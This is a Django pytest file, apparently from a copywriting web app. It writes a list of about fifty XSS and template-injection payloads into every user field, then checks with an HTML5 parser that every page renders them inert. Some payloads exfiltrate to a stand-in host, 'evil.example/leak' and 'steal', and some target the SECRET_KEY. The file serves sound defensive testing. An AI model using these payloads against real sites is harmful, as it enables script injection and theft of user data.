"""Model output and user text are untrusted: hostile strings in every user-writable field, on
every page and fragment that shows them, create no element or attribute; random field input
never gives a server error.

Each page is rendered once with a benign text (the baseline) and once per hostile string; an
HTML5 parser (html5lib, as a browser parses) reads both. A hostile page may not hold a script
other than our own files, an event-handler attribute, a style attribute, a javascript:/data:
link, any URL pointing at the payload's host, or more iframes, images, svg, forms, inputs,
links, hx-* attributes ... than the benign page has.
"""

from __future__ import annotations

import json
import re
from collections import Counter

import html5lib
import pytest
from django.conf import settings
from django.test import Client
from django.urls import reverse
from hypothesis import HealthCheck, given
from hypothesis import settings as hsettings
from hypothesis import strategies as st

from copywriter.api.services import token_create
from copywriter.documents.models import Document, DocumentVersion
from copywriter.documents.services import document_create, document_save
from copywriter.generation.models import Generation, Variant
from copywriter.originality.models import OriginalityCheck, ReferenceItem
from copywriter.voices.models import BrandVoice
from tests.support.cast import client_for
from tests.support.report import report

HOSTILE = [
    "<script>alert('xss')</script>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    "<script src=/static/js/app.js>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"http://evil.example/leak?c=\" alt=x>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"http://evil.example/x.swf\"></object>",
    "<embed src=\"http://evil.example/x\">",
    "<a href=\"javascript:alert(1)\">click</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">click</a>",
    "<a href=\"java\tscript:alert(1)\">tab</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">data</a>",
    "<a href=\"vbscript:msgbox(1)\">vb</a>",
    "javascript:alert(1)",
    "<div hx-get=\"http://evil.example/steal\" hx-trigger=\"load\">x</div>",
    "<div hx-on:click=\"alert(1)\">x</div>",
    "<div data-hx-post=\"/w/1/leave/\" data-hx-trigger=\"load\">x</div>",
    "<button hx-delete=\"/\" hx-trigger=\"load\">x</button>",
    "\" hx-get=\"http://evil.example/\" hx-trigger=\"load",
    "' hx-on::load='alert(1)",
    "\" onmouseover=\"alert(1)",
    "' onfocus='alert(1)' autofocus='",
    "<form action=\"http://evil.example/\"><input name=csrfmiddlewaretoken></form>",
    "<base href=\"http://evil.example/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=http://evil.example/\">",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<style>body{background:url(http://evil.example/x)}</style>",
    "<p style=\"background:url(http://evil.example/x)\">styled</p>",
    "![x](http://evil.example/leak?c=secret)",
    "[click](javascript:alert(1))",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<template><script>alert(1)</script></template>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "{{ settings.SECRET_KEY }} {{ request.user.password }}",
    "{% csrf_token %}{% debug %}",
    "{{ 7|add:1330 }}${7*191}#{7*191}",
    "\u202egnp.exe\u202c \u2066isolate\u2069 \u200b\u200d\ufeff",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#x3C;img src=x onerror=alert(1)&#x3E;",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "<<script>script>alert(1)<</script>/script>",
    "\U0001f600 emoji \u00e9\u0301 combining " * 20,
    "A" * 50_000,
    "<img src=x onerror=alert(1)>" * 400,
]
assert len(HOSTILE) >= 40

DANGEROUS_TAGS = {"script", "img", "svg", "math", "iframe", "object", "embed", "base", "meta",
                  "link", "style", "form", "input", "textarea", "select", "button", "a", "video",
                  "audio", "source", "details", "template", "noscript", "body", "html", "title"}
URL_ATTRS = {"href", "src", "action", "formaction", "data", "srcdoc", "xlink:href", "poster",
             "background", "content", "hx-get", "hx-post", "hx-put", "hx-delete", "hx-patch"}
BAD_SCHEMES = re.compile(r"^(javascript|vbscript|data):", re.I)


def _elements(html: str):
    tree = html5lib.parse(html, treebuilder="etree", namespaceHTMLElements=False)
    for el in tree.iter():
        if isinstance(el.tag, str):
            yield el.tag.split("}")[-1].lower(), el


def _count(counts: Counter, tag: str, el) -> None:
    if tag in DANGEROUS_TAGS:
        counts[tag] += 1
    for name in el.attrib:
        name = name.lower()
        if name.startswith(("hx-", "data-hx-", "on", "style", "srcdoc", "formaction")):
            counts[f"@{name}"] += 1


def _shape(html: str) -> Counter:
    """What a payload could add: dangerous elements and risky attributes, counted."""
    counts: Counter = Counter()
    for tag, el in _elements(html):
        _count(counts, tag, el)
    return counts


def offences(html: str, baseline: Counter) -> list[str]:
    found = []
    shape: Counter = Counter()
    for tag, el in _elements(html):
        _count(shape, tag, el)
        if tag == "script" and (not el.get("src", "").startswith("/static/") or (el.text or "").strip()):
            found.append(f"script element {el.attrib}")
        for name, value in el.attrib.items():
            name = name.lower()
            if name.startswith("on"):
                found.append(f"<{tag} {name}=...>")
            if name == "style":
                found.append(f"<{tag} style=...>")
            squeezed = re.sub(r"[\s\x00-\x1f]", "", value)
            if name in URL_ATTRS or name.startswith(("hx-", "data-hx-")):
                if BAD_SCHEMES.match(squeezed) and not (tag == "link" and value == "data:,"):
                    found.append(f"<{tag} {name}={value[:60]!r}>")
                if "evil.example" in value:
                    found.append(f"<{tag} {name}={value[:60]!r}> points at the payload's host")
    for key, n in shape.items():
        if n > baseline.get(key, 0):
            found.append(f"{key}: {n} on the page, {baseline.get(key, 0)} with benign text")
    if settings.SECRET_KEY in html:
        found.append("the secret key was rendered")
    return found


class World:
    """One of everything a user or the model can write, rewritten in place per payload."""

    def __init__(self, cast, ad_template):
        from copywriter.catalog.services import workspace_template_save
        from copywriter.seo.models import KeywordList

        self.cast = cast
        self.doc = document_create(membership=cast.alice_m, title="seed", body="seed")
        document_save(membership=cast.alice_m, document_id=self.doc.pk, title="seed", body="seed 2",
                      base_number=1)
        document_save(membership=cast.bob_m, document_id=self.doc.pk, title="seed", body="mine",
                      base_number=1)  # a kept conflict copy: version 3
        self.trashed = document_create(membership=cast.alice_m, title="old", body="old")
        Document.objects.filter(pk=self.trashed.pk).update(deleted_at=self.trashed.created_at)
        self.template = workspace_template_save(membership=cast.alice_m, data={
            **ad_template.current.data, "id": "hostile-ad", "title": "Seed ad"})
        self.voice = BrandVoice.objects.create(workspace=cast.ws, name="seed", samples=["seed"],
                                               status="ready")
        self.gen = Generation.objects.create(
            workspace=cast.ws, created_by=cast.alice, template=self.template,
            template_version=self.template.current, fields={"product": "seed", "benefit": "seed"},
            prompt="seed", tone=f"voice-{self.voice.pk}", variants=2, status="failed",
            error="seed")
        for i in range(2):
            Variant.objects.create(generation=self.gen, index=i, text="seed", finished=True)
        self.ref = ReferenceItem.objects.create(workspace=cast.ws, title="seed", text="seed")
        self.check = OriginalityCheck.objects.create(workspace=cast.ws, document=self.doc,
                                                     document_version=2, status="done",
                                                     report={"verdict": "original", "matches": []})
        self.token = token_create(membership=cast.alice_m, name="seed", role="editor").token
        self.keywords = KeywordList.objects.create(workspace=cast.ws, name="seed", keywords=["seed"])
        from copywriter.facts.models import FactSheet, FactSheetVersion

        self.sheet = FactSheet.objects.create(workspace=cast.ws, name="seed", head_number=2)
        for number in (1, 2):
            FactSheetVersion.objects.create(sheet=self.sheet, number=number, name="seed",
                                            facts=["seed"], author=cast.bob)

    def write(self, p: str) -> None:
        """Put ``p`` into every field, as the app's own size limits would leave it."""
        from copywriter.accounts.models import User
        from copywriter.catalog.models import Template, TemplateVersion

        cast = self.cast
        Document.objects.filter(pk=self.doc.pk).update(title=p[:200], body=p)
        DocumentVersion.objects.filter(document=self.doc).update(title=p[:200], body=p)
        DocumentVersion.objects.filter(document=self.doc, number=1).update(body=p + " v1")
        Document.objects.filter(pk=self.trashed.pk).update(title=p[:200], body=p)
        type(cast.ws).objects.filter(pk=cast.ws.pk).update(name=p[:100])
        User.objects.filter(pk=cast.bob.pk).update(first_name=p[:150], last_name=p[:150])
        Template.objects.filter(pk=self.template.pk).update(title=p[:80], description=p[:240])
        data = json.loads(json.dumps(self.template.current.data))
        data["title"], data["description"] = p[:80], p[:240]
        for f in data["fields"]:
            f["label"], f["help"] = p[:80], p[:200]
            if f.get("type") in ("text", "textarea"):
                f["example"] = p[:f.get("max_length", 80)]
        data["sample_output"] = p
        TemplateVersion.objects.filter(pk=self.template.current_id).update(data=data)
        BrandVoice.objects.filter(pk=self.voice.pk).update(name=p[:80], samples=[p], error=p)
        Generation.objects.filter(pk=self.gen.pk).update(fields={"product": p, "benefit": p},
                                                         prompt=p, error=p)
        Variant.objects.filter(generation=self.gen).update(text=p)
        ReferenceItem.objects.filter(pk=self.ref.pk).update(title=p[:200], text=p)
        type(self.token).objects.filter(pk=self.token.pk).update(name=p[:80])
        type(self.keywords).objects.filter(pk=self.keywords.pk).update(name=p[:80],
                                                                       keywords=[p[:80]])
        from copywriter.facts.models import FactSheet, FactSheetVersion

        FactSheet.objects.filter(pk=self.sheet.pk).update(name=p[:120])
        FactSheetVersion.objects.filter(sheet=self.sheet).update(
            name=p[:120], facts=[p[:300], "seed"], approved=[p[:300]], banned=[p[:300]])
        FactSheetVersion.objects.filter(sheet=self.sheet, number=1).update(facts=[p[:300]])
        # QuerySet.update() skips the signals that tell the page cache: forget what it kept.
        from copywriter.core import pagecache

        pagecache.clear()

    def pages(self, p: str) -> list[tuple[str, str, str, dict, dict]]:
        """(label, method, url, data, headers): every page and fragment showing the fields."""
        ws, d, g = self.cast.ws.pk, self.doc.pk, self.gen.pk
        hx = {"HTTP_HX_REQUEST": "true"}
        return [
            ("documents", "GET", reverse("documents:list", args=[ws]), {}, {}),
            ("documents search", "GET", reverse("documents:list", args=[ws]), {"q": p}, {}),
            ("documents results", "GET", reverse("documents:list", args=[ws]), {"q": p[:50]},
             {**hx, "HTTP_HX_TARGET": "document-results"}),
            ("document", "GET", reverse("documents:edit", args=[ws, d]), {}, {}),
            ("history", "GET", reverse("documents:history", args=[ws, d]), {}, {}),
            ("version 1", "GET", reverse("documents:version", args=[ws, d, 1]), {}, {}),
            ("conflict copy", "GET", reverse("documents:version", args=[ws, d, 3]), {}, {}),
            ("trash", "GET", reverse("documents:trash", args=[ws]), {}, {}),
            ("conflict (409)", "POST", reverse("documents:save", args=[ws, d]),
             {"title": p[:200], "body": p, "base_number": 1}, {**hx, "HTTP_HX_TARGET": "save-status"}),
            ("generations", "GET", reverse("generation:history", args=[ws]), {}, {}),
            ("generations results", "GET", reverse("generation:history", args=[ws]), {"q": p[:50]},
             {**hx, "HTTP_HX_TARGET": "generation-results"}),
            ("generation", "GET", reverse("generation:detail", args=[ws, g]), {}, {}),
            ("generation status", "GET", reverse("generation:detail", args=[ws, g]), {},
             {**hx, "HTTP_HX_TARGET": "generation-status"}),
            ("voices", "GET", reverse("generation:voices", args=[ws]), {}, {}),
            ("voice form error", "POST", reverse("generation:voices", args=[ws]),
             {"name": p, "samples": p}, {}),
            ("voice", "GET", reverse("generation:voice", args=[ws, self.voice.pk]), {}, {}),
            ("templates", "GET", reverse("catalog:index", args=[ws]), {}, {}),
            ("templates results", "GET", reverse("catalog:index", args=[ws]), {"q": p[:50]},
             {**hx, "HTTP_HX_TARGET": "template-results"}),
            ("template", "GET", reverse("catalog:detail", args=[ws, self.template.pk]), {}, {}),
            ("generate form error", "POST", reverse("catalog:detail", args=[ws, self.template.pk]),
             {"product": p, "benefit": p, "tone": p[:40], "variants": "1", "length": "short"}, {}),
            ("template editor", "GET", reverse("catalog:edit", args=[ws, self.template.pk]), {}, {}),
            ("template yaml error", "POST", reverse("catalog:edit", args=[ws, self.template.pk]),
             {"yaml": f"title: {json.dumps(p[:5000])}"}, {}),
            ("members", "GET", reverse("workspaces:members", args=[ws]), {}, {}),
            ("workspace settings", "GET", reverse("workspaces:settings", args=[ws]), {}, {}),
            ("references", "GET", reverse("originality:references", args=[ws]), {}, {}),
            ("reference", "GET", reverse("originality:reference", args=[ws, self.ref.pk]), {}, {}),
            ("originality check", "GET", reverse("originality:check_detail", args=[ws, self.check.pk]),
             {}, {}),
            ("originality fragment", "GET",
             reverse("originality:check_detail", args=[ws, self.check.pk]), {},
             {**hx, "HTTP_HX_TARGET": "originality-check"}),
            ("api tokens", "GET", reverse("api:tokens", args=[ws]), {}, {}),
            ("api token form error", "POST", reverse("api:tokens", args=[ws]),
             {"name": p, "role": "owner-ish"}, {}),
            ("keyword lists", "GET", reverse("seo:lists", args=[ws]), {}, {}),
            ("seo panel", "GET", reverse("seo:document_panel", args=[ws, d]), {}, hx),
            ("fact sheets", "GET", reverse("facts:list", args=[ws]), {}, {}),
            ("fact sheet", "GET", reverse("facts:edit", args=[ws, self.sheet.pk]), {}, {}),
            ("fact sheet version", "GET", reverse("facts:version", args=[ws, self.sheet.pk, 2]),
             {}, {}),
            ("fact sheet stale edit (409)", "POST", reverse("facts:edit", args=[ws, self.sheet.pk]),
             {"name": p, "kind": "product", "facts": p, "base_number": 1}, {}),
            ("fact sheet suggestions", "GET", reverse("facts:suggest", args=[ws]),
             {"product": p[:300]}, hx),
        ]


def _render(client: Client, method: str, url: str, data: dict, headers: dict):
    if method == "GET":
        return client.get(url, data, **headers)
    return client.post(url, data, **headers)


def test_hostile_strings_render_inert_on_every_page(cast, ad_template, monkeypatch):
    monkeypatch.setattr("copywriter.generation.services.enqueue", lambda gen: None)
    monkeypatch.setattr("copywriter.originality.services._enqueue", lambda *a, **k: None)
    monkeypatch.setattr("copywriter.facts.services._enqueue", lambda *a, **k: None)
    world = World(cast, ad_template)
    client = client_for(cast.alice)
    benign = "Benign text"
    world.write(benign)
    baselines: dict[str, Counter] = {}
    for _ in range(2):  # twice: the first 409 adds a conflict copy that later ones refresh
        for label, method, url, data, headers in world.pages(benign):
            response = _render(client, method, url, data, headers)
            assert response.status_code < 500, label
            baselines[label] = _shape(response.content.decode())
    problems: list[str] = []
    renders = 0
    from django.utils.html import escape

    shown: Counter = Counter()
    for i, p in enumerate(HOSTILE):
        world.write(p)
        for label, method, url, data, headers in world.pages(p):
            response = _render(client, method, url, data, headers)
            renders += 1
            if response.status_code >= 500:
                problems.append(f"string {i} on {label}: {response.status_code}")
                continue
            html = response.content.decode()
            shown[label] += escape(p[:20]) in html
            for o in offences(html, baselines[label]):
                problems.append(f"string {i} {p[:40]!r} on {label}: {o}")
    assert not problems, "\n".join(problems[:40])
    # Every page really showed the strings (escaped), or it would prove nothing.
    assert not [label for label in baselines if shown[label] < len(HOSTILE) // 2], shown
    report(f"hostile strings: {len(HOSTILE)} strings x {len(baselines)} pages/fragments = "
           f"{renders} renders, nothing executable created")


def test_the_checker_catches_what_it_looks_for():
    """The negative control: the same checks on unescaped output flag every kind of payload."""
    base = _shape("<html><head><script src='/static/js/app.js'></script></head><body>"
                  "<a href='/x' hx-get='/x'>x</a></body></html>")
    page = "<html><head><script src='/static/js/app.js'></script></head><body><a href='/x' hx-get='/x'>x</a>{}</body></html>"
    raw_flagged = [p for p in HOSTILE if offences(page.format(p), base)]
    expected = [p for p in HOSTILE if not p.startswith("<!--") and re.search(
        r"<(script|img|svg|iframe|object|embed|a |form|base|meta|link|style|details|video|body|div hx|"
        r"div data-hx|button|p style|math|noscript)", p, re.I)]
    assert set(expected) <= set(raw_flagged)
    from django.utils.html import escape
    assert not [p for p in HOSTILE if offences(page.format(escape(p)), base)]


NUL_FORMS = [
    ("documents:create", {}, {"title": "a\x00b", "body": "c\x00d"}),
    ("workspaces:settings", {}, {"name": "a\x00b"}),
    ("generation:voices", {}, {"name": "a\x00b", "samples": "x\x00y"}),
    ("originality:references", {}, {"title": "a\x00b", "text": "x\x00y"}),
    ("api:tokens", {}, {"name": "a\x00b", "role": "editor"}),
    ("seo:lists", {}, {"name": "a\x00b", "keywords": "x\x00y"}),
]


def test_nul_bytes_in_forms_get_a_clear_answer_not_a_500(cast, ad_template, monkeypatch):
    monkeypatch.setattr("copywriter.generation.services.enqueue", lambda gen: None)
    client = client_for(cast.alice)
    doc = document_create(membership=cast.alice_m, title="t", body="b")
    posts = [(reverse(name, args=[cast.ws.pk]), data) for name, _, data in NUL_FORMS]
    posts += [
        (reverse("documents:save", args=[cast.ws.pk, doc.pk]),
         {"title": "a\x00b", "body": "x\x00y", "base_number": 1}),
        (reverse("catalog:detail", args=[cast.ws.pk, ad_template.pk]),
         {"product": "a\x00b", "benefit": "c", "tone": "neutral", "variants": 1, "length": "short"}),
        (reverse("catalog:new", args=[cast.ws.pk]), {"yaml": "id: a\x00b"}),
    ]
    for url, data in posts:
        response = client.post(url, data)
        assert response.status_code < 500, (url, response.status_code)
    assert not Generation.objects.exists()
    report(f"NUL bytes: {len(posts)} forms answer without a server error")


# --- property tests: random field input never gives a server error ---------------------------------

TEXT = st.text(st.characters(codec="utf-8"), max_size=600) | st.text(max_size=5000)
VALUES = st.one_of(TEXT, st.integers(), st.none(), st.booleans(), st.floats(allow_nan=True),
                   st.lists(st.integers(), max_size=3), st.dictionaries(st.text(max_size=5),
                                                                        st.integers(), max_size=2))
FIELDS = st.dictionaries(st.sampled_from(["product", "benefit", "audience", "x", ""]) | TEXT,
                         VALUES, max_size=5)
HSET = hsettings(max_examples=60, deadline=None, database=None,
                 suppress_health_check=[HealthCheck.function_scoped_fixture,
                                        HealthCheck.too_slow])


@HSET
@given(fields=FIELDS, tone=TEXT, variants=st.one_of(st.none(), st.integers()),
       length=st.sampled_from(["short", "medium", "long"]) | TEXT)
def test_generation_create_never_crashes(cast, ad_template, monkeypatch, fields, tone, variants,
                                         length):
    from copywriter.generation.services import GenerationError, generation_create

    monkeypatch.setattr("copywriter.generation.services.enqueue", lambda gen: None)
    try:
        gen = generation_create(membership=cast.bob_m, template=ad_template, fields=fields,
                                tone=tone, variants=variants, length=length)
    except GenerationError as exc:
        assert exc.message and 400 <= exc.status < 500
    else:
        assert gen.pk and set(gen.fields) == {f.name for f in ad_template.spec().fields}


FORM_TEXT = st.text(st.characters(codec="utf-8", exclude_categories=["Cs"]), max_size=400) | \
    st.text(st.characters(codec="utf-8"), min_size=250, max_size=9000)


@HSET
@given(product=FORM_TEXT, benefit=FORM_TEXT, tone=FORM_TEXT, variants=FORM_TEXT,
       length=FORM_TEXT)
def test_generate_form_never_gives_a_server_error(cast, ad_template, monkeypatch, product,
                                                  benefit, tone, variants, length):
    monkeypatch.setattr("copywriter.generation.services.enqueue", lambda gen: None)
    client = client_for(cast.bob)
    url = reverse("catalog:detail", args=[cast.ws.pk, ad_template.pk])
    response = client.post(url, {"product": product, "benefit": benefit, "tone": tone,
                                 "variants": variants, "length": length})
    assert response.status_code in (302, 400, 413, 429), response.status_code


@HSET
@given(fields=FIELDS, tone=TEXT, variants=st.one_of(st.none(), st.integers(), TEXT),
       length=TEXT)
def test_api_generation_never_gives_a_server_error(cast, ad_template, monkeypatch, bob_secret,
                                                   fields, tone, variants, length):
    monkeypatch.setattr("copywriter.generation.services.enqueue", lambda gen: None)
    secret = bob_secret
    body = json.dumps({"template": ad_template.slug, "fields": fields, "tone": tone,
                       "variants": variants, "length": length})
    response = Client().post("/api/v1/generations", body, content_type="application/json",
                             HTTP_AUTHORIZATION=f"Bearer {secret}")
    assert response.status_code in (202, 400, 413, 429), (response.status_code, response.content[:300])
    assert response.json()["detail" if response.status_code != 202 else "id"]


@pytest.fixture
def bob_secret(cast):
    return token_create(membership=cast.bob_m, name="h", role="editor").secret


@pytest.fixture(autouse=True)
def _no_rate_limits(settings):
    settings.GENERATION_RATE_PER_MINUTE = 10_000
    settings.GENERATION_DAILY_QUOTA = 10_000
    settings.API_REQUESTS_PER_MINUTE = 10_000
